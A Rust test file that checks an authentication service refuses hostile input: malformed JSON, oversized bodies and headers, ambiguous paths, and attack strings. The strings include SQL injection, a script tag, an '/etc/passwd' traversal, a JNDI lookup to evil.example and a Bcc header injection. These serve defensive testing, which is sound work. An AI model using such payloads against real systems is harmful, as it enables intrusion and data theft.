//! Input that no client of good will sends, at every route that reads a body, with a live cookie.

use serde_json::json;

use super::{
    ANN, CHECK, CONFIRM, LOGIN, LOGOUT, POSTS, REGISTER, RESET, RESET_PASSWORD, check, registered,
};
use crate::harness::{Answer, Platform, Request, are_processes, is_read_alike};
use crate::user_service::expect_nothing_done;

/// The routes that read a body, each with a field of it.
const TARGETS: [(&str, &str); 5] = [
    (LOGIN, "login"),
    (REGISTER, "login"),
    (RESET_PASSWORD, "login"),
    (RESET, "token"),
    (CONFIRM, "token"),
];

async fn start() -> (Platform, String) {
    let platform = Platform::with(&[("LIMITS", "off")]).await;
    let held = registered(&platform, ANN).await;
    platform.deliver().await;
    (platform, held)
}

fn request(platform: &Platform, path: &str, held: &str) -> Request {
    let request = platform.post(path).header("cookie", &format!("sid={held}"));
    request.header("content-type", "application/json")
}

fn expect_refusal(answer: &Answer, status: u16, what: &str) {
    assert_eq!(answer.status, status, "{what}: {}", answer.whole());
    assert_eq!(
        answer.header("content-type"),
        Some("application/json"),
        "{what}"
    );
    assert_eq!(answer.header("set-cookie"), None, "{what}");
    let body = answer.json();
    let error = body["error"].as_str().expect("a reason");
    assert_eq!(body, json!({ "code": status, "error": error }), "{what}");
    assert!(!error.is_empty() && error.len() < 80, "{what}: {error}");
    for leak in [
        "serde",
        "line 1",
        "column 1",
        "panicked",
        "src/",
        "gatehouse-",
    ] {
        assert!(!answer.body.contains(leak), "{what}: {}", answer.whole());
    }
}

#[tokio::test]
async fn what_is_no_plain_json_object_is_refused_everywhere() {
    let (platform, held) = start().await;
    let before = platform.dump().await;
    for (path, field) in TARGETS {
        let with = |value: &str| format!("{{\"{field}\":{value}}}").into_bytes();
        let nested = |levels: usize| with(&format!("{}{}", "[".repeat(levels), "]".repeat(levels)));
        let mut invalid_utf8 = with("\"?\"");
        let mark = invalid_utf8.iter().position(|byte| *byte == b'?');
        invalid_utf8[mark.expect("the mark")] = 0xff;
        for (what, body) in [
            ("no JSON", b"login=ann@example.com".to_vec()),
            ("half JSON", b"{\"login\":".to_vec()),
            ("two documents", b"{} {}".to_vec()),
            ("an array", b"[]".to_vec()),
            ("a text", b"\"text\"".to_vec()),
            ("null", b"null".to_vec()),
            ("white space", b"  \n".to_vec()),
            ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
            ("an object as field", with("{\"$gt\":\"\"}")),
            ("an array as field", with("[\"x\"]")),
            ("a flag as field", with("true")),
            ("a number as field", with("7")),
            (
                "a key twice",
                format!("{{\"{field}\":\"a\",\"{field}\":\"a\"}}").into_bytes(),
            ),
            ("a key twice inside", b"{\"x\":{\"a\":1,\"a\":2}}".to_vec()),
            ("NUL in a value", with("\"a\\u0000b\"")),
            ("NUL in a key", b"{\"a\\u0000\":1}".to_vec()),
            ("invalid UTF-8", invalid_utf8),
            ("a lone surrogate", with("\"\\ud800\"")),
            ("a raw control character", with("\"a\nb\"")),
            ("too deep", nested(33)),
            ("far too deep", nested(30_000)),
            ("too large a number", with("1e999")),
        ] {
            let answer = request(&platform, path, &held).body(body).send().await;
            expect_refusal(&answer, 400, &format!("{path} {what}"));
        }
        let empty = request(&platform, path, &held).send().await;
        expect_refusal(&empty, 400, &format!("{path} no body"));
    }
    expect_nothing_done(&platform, &before, "hostile JSON").await;
}

#[tokio::test]
async fn a_body_over_64_kb_is_refused_everywhere() {
    let (platform, held) = start().await;
    let before = platform.dump().await;
    for path in POSTS {
        let padded = |bytes: usize| {
            let mut body = b"{}".to_vec();
            body.resize(bytes, b' ');
            body
        };
        let answer = request(&platform, path, &held)
            .body(padded(65_537))
            .send()
            .await;
        expect_refusal(&answer, 413, path);
        if !are_processes() {
            let announced = request(&platform, path, &held).header("content-length", "65537");
            expect_refusal(&announced.body("{}").send().await, 413, path);
        }
        if path != LOGOUT {
            let answer = request(&platform, path, &held)
                .body(padded(65_536))
                .send()
                .await;
            expect_refusal(&answer, 400, path);
        }
    }
    expect_nothing_done(&platform, &before, "large bodies").await;
}

#[tokio::test]
async fn a_header_over_8_kb_is_refused_everywhere() {
    let (platform, held) = start().await;
    let before = platform.dump().await;
    let long = "x".repeat(9 * 1024);
    for path in POSTS {
        for name in ["x-anything", "cookie", "accept-language", "user-agent"] {
            let request = platform.post(path).header(name, &long).json(&json!({}));
            expect_refusal(&request.send().await, 400, &format!("{path} {name}"));
        }
    }
    let long = check(&platform, &held).header("x-anything", &long);
    expect_refusal(&long.send().await, 400, CHECK);
    expect_nothing_done(&platform, &before, "long headers").await;
}

#[tokio::test]
async fn fields_of_any_text_are_answered_in_the_dialects_words() {
    let (platform, held) = start().await;
    let users = platform.items("users").await;
    let texts = [
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "ann@example.com\r\nBcc: evil@example.com",
        "\u{202e}moc.elpmaxe@nna",
        "ann@example.com, ben@example.com",
        "🦊",
        "%00%0d%0a",
    ];
    for (path, _) in TARGETS {
        for text in texts {
            let body = json!({
                "login": text, "password": text, "id": text, "token": text, "otp": text,
            });
            let answer = request(&platform, path, &held).body(body.to_string());
            let answer = answer.send().await;
            let expected = if [RESET, CONFIRM].contains(&path) {
                [500, 500]
            } else {
                [400, 401]
            };
            assert!(
                expected.contains(&answer.status),
                "{path} {text:?}: {}",
                answer.whole()
            );
            expect_refusal(&answer, answer.status, &format!("{path} {text:?}"));
            assert!(!answer.body.contains(text), "{path} {text:?}");
        }
    }
    assert_eq!(platform.items("users").await, users);
    assert_eq!(platform.deliver().await.len(), 0);
}

#[tokio::test]
async fn a_path_that_can_be_read_in_two_ways_is_refused() {
    let (platform, held) = start().await;
    for path in [
        "/session/./check",
        "/session/x/../check",
        "/session/%2e%2e/check",
        "/session//check",
        "/session/check%2f",
        "/session/%63heck%00",
        "/session/check%5c",
        "/session/check/",
    ] {
        if !is_read_alike(path) {
            continue;
        }
        let request = platform.get(path).header("cookie", &format!("sid={held}"));
        let answer = request.send().await;
        assert!(
            [400, 404].contains(&answer.status),
            "{path}: {}",
            answer.whole()
        );
        expect_refusal(&answer, answer.status, path);
    }
}
